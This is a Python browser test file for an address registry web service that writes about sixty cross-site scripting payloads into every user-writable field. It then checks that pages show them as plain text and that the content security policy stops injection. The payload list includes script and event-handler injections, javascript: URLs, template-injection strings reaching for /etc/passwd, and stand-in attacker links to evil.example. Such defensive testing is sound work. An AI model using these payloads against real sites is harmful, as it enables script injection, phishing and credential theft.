"""Text that is a script wherever it is taken for anything but text, on every page that shows it.

Sixty payloads, spread over every field a person can write and a page shows. The trap is
``window.__xss``; nothing springs it, and the policy of the pages has nothing to stop.
"""

from __future__ import annotations

import asyncio
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import AbstractContextManager
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import psycopg
import pytest
from playwright.sync_api import Page, expect
from service_settings import ENCRYPTION_KEY, service_settings

from addrsvc.auth import accounts
from addrsvc.auth.model import Role, Scope, command_line
from addrsvc.auth.passwords import Passwords
from addrsvc.auth.service import create_key
from addrsvc.clock import SystemClock
from addrsvc.db.doors import make_engine
from addrsvc.db.transaction import transaction

pytestmark = pytest.mark.browser

CloneDatabase = Callable[[str], AbstractContextManager[str]]
ServeApp = Callable[..., AbstractContextManager[str]]
OpenPage = Callable[..., Page]

_RUN = "window.__xss=1"
PAYLOADS: Sequence[str] = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x20type=module>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script/x>{_RUN}</script/x>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>{_RUN}",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</bdi></dd></dl><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src=`x` onerror={_RUN}>",
    f"<img/src/onerror={_RUN}>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img src=x\nonerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=/?stolen'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<form action='//evil.example'><button>Đăng nhập</button></form>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f'"autofocus onfocus={_RUN}//',
    f"` onerror={_RUN} `",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"{{{{{_RUN}}}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\u202e>tpircs/<{_RUN}>tpircs<\u202c",
    f"\u2066\u2067<script>{_RUN}</script>\u2069",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\ufeff<script>{_RUN}</script>\u200b",
)

PERSON = f"</a><img src=x onerror={_RUN}>'\"${{{_RUN}}}`\u202e<script>{_RUN}</script>"


@dataclass(frozen=True)
class Site:
    """A server whose every text is hostile, and where those texts are shown."""

    base: str
    codes: tuple[str, ...]
    password: str


@pytest.fixture(scope="module")
def site(
    clone_database: CloneDatabase, registry_template: str, serve_app: ServeApp
) -> Iterator[Site]:
    generous = {"anonymous_per_minute": "100000", "anonymous_misses_per_minute": "100000"}
    generous |= {"known_per_minute": "100000", "encryption_keys": ENCRYPTION_KEY}
    generous |= {"webhook_allow": "127.0.0.1/32"}
    with clone_database(registry_template) as url:
        with psycopg.connect(url) as conn:
            conn.execute("UPDATE admin_unit SET full_name = %s WHERE level = 'commune'", [_all()])
            conn.execute("UPDATE admin_unit SET full_name = %s WHERE code = '79'", [_all(1)])
        with ThreadPoolExecutor(1) as apart:  # the browser's own event loop runs in this thread
            key, password = apart.submit(asyncio.run, _let_in(url)).result()
        with serve_app(url, **generous) as base:
            yield Site(base, tuple(_write(base, key)), password)


def _all(start: int = 0) -> str:
    """Put a few payloads into one name."""
    return " ".join(PAYLOADS[start::9])


async def _let_in(url: str) -> tuple[str, str]:
    engine, now = make_engine(service_settings(url)), SystemClock().now()
    async with transaction(engine) as conn:
        key = await create_key(
            conn,
            command_line("test"),
            name=PAYLOADS[1],
            scopes=list(Scope),
            areas=None,
            expires_at=None,
            at=now,
        )
        _, password = await accounts.create_account(
            conn,
            command_line("test"),
            Passwords(),
            login="lan",
            display_name=PERSON,
            roles=[Role.ADMIN, Role.INTEGRATOR],
            password="bốn con cá bơi ngược",
            at=now,
        )
    await engine.dispose()
    return key, password or "bốn con cá bơi ngược"


def _write(base: str, key: str) -> Iterator[str]:
    """Register a payload in every field of an address, one after another; give their codes."""
    headers = {"Authorization": f"Bearer {key}", "Accept": "application/json"}
    with httpx.Client(base_url=base, headers=headers, timeout=30) as client:

        def done(method: str, path: str, body: dict[str, Any]) -> Any:
            answer = client.request(method, path, json=body, headers={"If-Match": "*"})
            assert answer.is_success, (body, answer.text)
            return answer.json()

        for at in range(0, len(PAYLOADS), 4):
            several = [PAYLOADS[(at + n) % len(PAYLOADS)] for n in range(8)]
            name, street, place, building, unit, floor, text, source = several
            made = done(
                "POST",
                "/v1/addresses",
                {
                    "kind": "public_facility",
                    "source": source,
                    "name": name,
                    "text": text,
                    "components": {
                        "unit": unit,
                        "floor": floor,
                        "building": building,
                        "house_number": str(at + 1),
                        "thoroughfare": street,
                        "localities": [{"kind": "khu_pho", "name": place}],
                    },
                    "position": {
                        "lon": 106.61 + 0.001 * at,
                        "lat": 10.95,
                        "accuracy_m": 5,
                    },
                    "distinct_because": name,
                },
            )
            yield made["code"].replace("-", "")[:10]
        first = client.get("/v1/addresses?limit=2").json()["items"]
        ref = first[0]["ref"]
        done("PATCH", f"/v1/addresses/{ref}", {"text": "x", "reason": PAYLOADS[2]})
        done("POST", f"/v1/addresses/{ref}:retire", {"reason": PAYLOADS[3]})
        for at in range(0, len(PAYLOADS), 4):
            several = "  ".join(PAYLOADS[at : at + 4])[:200]
            body = {"url": f"https://127.0.0.1:8443/{at}", "description": several}
            done("POST", "/v1/webhooks", body)


def _listen(page: Page) -> None:
    """Set the trap: what ran, what the policy stopped, where the page was led."""
    page.add_init_script(
        "window.__stopped = [];"
        "document.addEventListener('securitypolicyviolation',"
        " (event) => window.__stopped.push(`${event.violatedDirective} ${event.blockedURI}`));"
    )


def _is_quiet(page: Page, path: str) -> None:
    assert page.evaluate("window.__xss") is None, path
    assert page.evaluate("window.__stopped") == [], path
    assert page.locator("main script, main iframe, main object, main embed, main base").count() == 0
    assert (
        page.locator("main svg [onbegin], main [onerror], main [onload], main [onfocus]").count()
        == 0
    )
    assert page.url.startswith(path.partition("?")[0])


def _shown(text: str) -> str:
    return unicodedata.normalize("NFC", " ".join(text.split()))


def test_addresses_show_sixty_payloads_as_text(browser_page: OpenPage, site: Site) -> None:
    assert len(PAYLOADS) >= 60
    page = browser_page()
    _listen(page)
    missed = []
    for at, code in zip(range(0, len(PAYLOADS), 4), site.codes, strict=True):
        path = f"{site.base}/a/{code}"
        page.goto(path)
        if at % 32 == 0:  # the map shows the names of communes
            page.locator("#map[data-state=drawn]").wait_for()
        _is_quiet(page, path)
        shown = _shown(page.locator("main").inner_text())
        missed += [each for each in PAYLOADS[at : at + 4] if _shown(each) not in shown]
    assert missed == []
    for path in ("/quality", "/findings", "/docs", f"/?q={site.codes[0]}"):
        page.goto(site.base + path)
        _is_quiet(page, site.base + path)


def test_typed_payloads_come_back_as_text(browser_page: OpenPage, site: Site) -> None:
    page = browser_page(expected_problems=("422", "404", "400"))
    _listen(page)
    for payload in PAYLOADS[::8]:
        page.goto(f"{site.base}/")
        page.get_by_label("Địa chỉ, mã hoặc tọa độ", exact=True).fill(payload)
        page.get_by_role("button", name="Tra cứu").click()
        page.wait_for_url(f"{site.base}/?q=*")
        _is_quiet(page, f"{site.base}/")
        for path in ("/sign-in?next=", "/findings/", "/khong-co/"):
            page.goto(site.base + path + quote(payload, safe=""))
            assert page.evaluate("window.__xss") is None
            assert page.evaluate("window.__stopped") == []


def test_no_payload_comes_back_as_markup(site: Site) -> None:
    """All of them, typed, as a language, as a place sent and as a path."""
    with httpx.Client(base_url=site.base, headers={"Accept": "text/html"}) as client:
        for payload in PAYLOADS:
            sent = quote(payload, safe="")
            pages = [client.get(path + sent) for path in ("/?q=", "/?lang=", "/a/", "/khong-co/")]
            pages.append(client.post("/here", data={"lon": payload, "lat": payload}))
            for page in pages:
                assert page.status_code in {200, 308, 404, 422}, (payload, page.status_code)
                assert page.headers.get("location", "/a/").startswith("/a/")
                marked = [
                    each for each in ("<script>", "<img", "<svg", "<iframe") if each in payload
                ]
                drawn = page.text.replace('<img src="/static/', "")
                assert [each for each in marked if each in drawn] == [], payload
                if page.status_code != httpx.codes.PERMANENT_REDIRECT:
                    assert "unsafe" not in page.headers["content-security-policy"]


def test_pages_of_people_signed_in_show_payloads_as_text(
    browser_page: OpenPage, site: Site
) -> None:
    page = browser_page()
    _listen(page)
    page.goto(f"{site.base}/sign-in")
    page.get_by_label("Tên đăng nhập").fill("lan")
    page.get_by_label("Mật khẩu", exact=True).fill(site.password)
    page.get_by_role("button", name="Đăng nhập").click()
    page.wait_for_url(f"{site.base}/")
    expect(page.locator("a.person")).to_have_text(PERSON)
    for path in ("/account", "/webhooks", f"/a/{site.codes[5]}"):
        page.goto(site.base + path)
        _is_quiet(page, site.base + path)
    page.goto(f"{site.base}/webhooks")
    shown = _shown(page.locator("main").inner_text())
    assert [each for each in PAYLOADS[::4] if _shown(each) not in shown] == []


def test_the_trap_springs(browser_page: OpenPage, site: Site) -> None:
    """Where text is taken for a document it runs, and the policy of our pages stops it."""
    page = browser_page(expected_problems=("Content Security Policy", "404"))
    _listen(page)
    page.set_content(PAYLOADS[15])
    page.wait_for_function("window.__xss === 1")
    page.goto(f"{site.base}/docs")
    page.evaluate("(text) => { document.querySelector('main').innerHTML = text }", PAYLOADS[15])
    page.wait_for_function("window.__stopped.length > 0")
    assert page.evaluate("window.__xss") is None
